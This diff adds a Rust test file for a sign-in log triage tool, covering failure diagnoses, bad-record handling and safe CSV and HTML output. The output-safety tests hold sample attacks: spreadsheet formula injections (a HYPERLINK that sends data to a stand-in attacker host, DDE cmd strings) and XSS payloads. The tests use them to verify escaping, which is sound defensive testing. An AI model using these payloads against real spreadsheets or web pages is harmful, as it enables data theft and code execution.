@@ -1,0 +1,144 @@
+//! Batch triage: every failed attempt, the cross-record facts, the rollout
+//! checks, bad records, and output that is safe in spreadsheets and browsers.
+
+use assert_cmd::Command;
+use std::path::{Path, PathBuf};
+
+fn root() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+fn run_in(dir: &Path, args: &[&str]) -> (i32, String, String) {
+    let o = Command::cargo_bin("signin-doctor").unwrap().current_dir(dir).args(args).output().unwrap();
+    (o.status.code().unwrap_or(-1), String::from_utf8_lossy(&o.stdout).into(), String::from_utf8_lossy(&o.stderr).into())
+}
+
+fn jsonl(out: &str) -> Vec<serde_json::Value> {
+    out.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
+}
+
+/// Generate a small realistic export with the example generator's logic, deterministic.
+fn generated(dir: &Path, n: usize, array: bool) -> (PathBuf, PathBuf) {
+    let s = dir.join(if array { "s.json" } else { "s.jsonl" });
+    let a = dir.join("a.jsonl");
+    let st = std::process::Command::new(env!("CARGO"))
+        .args(["run", "-q", "--release", "--example", "generate", "--", "--records", &n.to_string(), "--out", s.to_str().unwrap(), "--audit-out", a.to_str().unwrap()])
+        .args(if array { vec!["--format", "array"] } else { vec![] })
+        .current_dir(root())
+        .status()
+        .unwrap();
+    assert!(st.success());
+    (s, a)
+}
+
+#[test]
+fn every_failed_attempt_is_diagnosed_once_in_file_order() {
+    let (code, out, err) = run_in(&root(), &["triage", "--signins", "tests/fixtures/mfa-outage/signin.json", "tests/fixtures/password-spray/signin.json", "tests/fixtures/break-glass/signin.json", "--org", "examples/org.ron", "--format", "json"]);
+    assert_eq!(code, 0, "{err}");
+    let rows = jsonl(&out);
+    // 4 MFA failures + 6 spray failures + 1 failed break-glass sign-in (its success is not a failure).
+    assert_eq!(rows.len(), 11, "{out}");
+    for r in &rows {
+        for k in ["id", "correlation_id", "user", "time", "diagnosis", "needs_answer"] {
+            assert!(r.get(k).is_some(), "missing {k} in {r}");
+        }
+        assert!(r["diagnosis"]["provisional"].is_boolean());
+    }
+    assert!(rows[..4].iter().all(|r| r["diagnosis"]["id"] == "mfa-service-problem"), "four users failing MFA in one hour, none passing");
+    assert!(rows[4..10].iter().all(|r| r["diagnosis"]["id"] == "possible-compromise"), "password spray from one IP");
+    assert_eq!(rows[10]["diagnosis"]["id"], "break-glass-sign-in");
+    assert!(err.contains("Rollout checks:"), "the summary goes to stderr with --format json");
+}
+
+#[test]
+fn open_questions_give_a_provisional_diagnosis() {
+    let (_, out, _) = run_in(&root(), &["triage", "--signins", "examples/stale-authenticator/signin.json", "--audit", "examples/stale-authenticator/audit.json", "--format", "json"]);
+    let rows = jsonl(&out);
+    assert_eq!(rows.len(), 1);
+    assert_eq!(rows[0]["needs_answer"]["id"], "prompt-seen");
+    assert_eq!(rows[0]["diagnosis"]["provisional"], true);
+    // Don't know all the way: registered 412 days ago, so the data supports a stale registration.
+    assert_eq!(rows[0]["diagnosis"]["id"], "stale-authenticator-registration");
+}
+
+#[test]
+fn text_summary_and_rollout_checks() {
+    let dir = tempfile::tempdir().unwrap();
+    let (s, a) = generated(dir.path(), 3000, false);
+    let (code, out, err) = run_in(&root(), &["triage", "--signins", s.to_str().unwrap(), "--audit", a.to_str().unwrap(), "--org", "examples/org.ron"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(out.starts_with("Triage of 3000 sign-in records:"), "{out}");
+    for part in ["Diagnoses (failed attempts):", "stale-authenticator-registration", "Users most affected:", "Rollout checks:", "[FAIL] No legacy authentication:", "[FAIL] No single-factor success where MFA should apply", "Every user able to register"] {
+        assert!(out.contains(part), "the summary lacks {part}:\n{out}");
+    }
+    // Same data as an array: the same results.
+    let (s2, _) = generated(dir.path(), 3000, true);
+    let (_, a1, _) = run_in(&root(), &["triage", "--signins", s.to_str().unwrap(), "--format", "json", "--threads", "1"]);
+    let (_, a2, _) = run_in(&root(), &["triage", "--signins", s2.to_str().unwrap(), "--format", "json", "--threads", "2"]);
+    let strip = |o: &str| o.lines().map(|l| {
+        let mut v: serde_json::Value = serde_json::from_str(l).unwrap();
+        v["record"] = serde_json::Value::Null;
+        v.to_string()
+    }).collect::<Vec<_>>();
+    assert_eq!(strip(&a1), strip(&a2), "JSON Lines and array, 1 and 2 threads, give the same results");
+}
+
+#[test]
+fn bad_records_are_counted_and_listed_and_strict_stops() {
+    let dir = tempfile::tempdir().unwrap();
+    let good = std::fs::read_to_string(root().join("tests/fixtures/lockout/signin.json")).unwrap();
+    let v: serde_json::Value = serde_json::from_str(&good).unwrap();
+    let rec = v["value"][0].to_string();
+    let text = format!("{rec}\n{{\"id\":\"x\",\"createdDateTime\":\"yesterday\",\"status\":{{\"errorCode\":1}}}}\n{{\"hello\":1}}\n{rec}\n");
+    std::fs::write(dir.path().join("s.jsonl"), text).unwrap();
+    let (code, out, _) = run_in(dir.path(), &["triage", "--signins", "s.jsonl"]);
+    assert_eq!(code, 0);
+    assert!(out.contains("2 bad records were skipped:"), "{out}");
+    assert!(out.contains("s.jsonl:2: record 2: cannot read this sign-in: \"yesterday\" is not a date"), "{out}");
+    assert!(out.contains("s.jsonl:3: record 3: this object has none of the fields of a sign-in"), "{out}");
+    let (code, _, err) = run_in(dir.path(), &["triage", "--signins", "s.jsonl", "--strict"]);
+    assert_eq!(code, 4);
+    assert!(err.contains("s.jsonl:2:1: record 2:"), "{err}");
+    // A broken file structure is an error, not a bad record.
+    std::fs::write(dir.path().join("t.json"), format!("[{rec},")).unwrap();
+    let (code, _, err) = run_in(dir.path(), &["triage", "--signins", "t.json"]);
+    assert_eq!(code, 4);
+    assert!(err.contains("t.json:1:1: malformed JSON: the file ends in the middle of a JSON value"), "{err}");
+    let (code, _, err) = run_in(dir.path(), &["triage", "--signins", "missing.json"]);
+    assert_eq!(code, 4);
+    assert!(err.contains("missing.json: cannot read the file: no such file"));
+}
+
+#[test]
+fn csv_cells_cannot_run_as_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    let evil = r#"{"id":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")","createdDateTime":"2026-11-20T09:00:00Z","correlationId":"+cmd|' /C calc'!A0","userPrincipalName":"@SUM(1+1)*cmd|' /C calc'!A0","appDisplayName":"-2+3","status":{"errorCode":50126}}"#;
+    std::fs::write(dir.path().join("s.json"), evil).unwrap();
+    let (code, out, _) = run_in(dir.path(), &["triage", "--signins", "s.json", "--format", "csv"]);
+    assert_eq!(code, 0);
+    let mut r = csv::Reader::from_reader(out.as_bytes());
+    let headers = r.headers().unwrap().clone();
+    assert_eq!(&headers[0], "id");
+    let row = r.records().next().unwrap().unwrap();
+    for cell in row.iter() {
+        assert!(!cell.starts_with(['=', '+', '-', '@']), "a cell a spreadsheet would run: {cell}");
+    }
+    assert_eq!(&row[0], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+    assert_eq!(&row[5], "'-2+3");
+}
+
+#[test]
+fn the_html_report_is_self_contained_and_escapes_log_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let evil = r#"{"id":"a","createdDateTime":"2026-11-20T09:00:00Z","correlationId":"c","userPrincipalName":"<script>alert(1)</script>@contoso.com","clientAppUsed":"IMAP4<img src=x onerror=alert(2)>","status":{"errorCode":50126}}"#;
+    std::fs::write(dir.path().join("s.json"), evil).unwrap();
+    let (code, _, err) = run_in(dir.path(), &["triage", "--signins", "s.json", "--report", "r.html"]);
+    assert_eq!(code, 0, "{err}");
+    let html = std::fs::read_to_string(dir.path().join("r.html")).unwrap();
+    assert!(!html.contains("<script") && !html.contains("<img"), "unescaped log text in the report");
+    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;@contoso.com"));
+    for loads in [" src=", "href=", "<link", "url(", "@import", "<script"] {
+        assert!(!html.contains(loads), "the page must load nothing, but has {loads}");
+    }
+    assert!(html.contains("<svg") && html.contains("Failed attempts per hour"));
+}
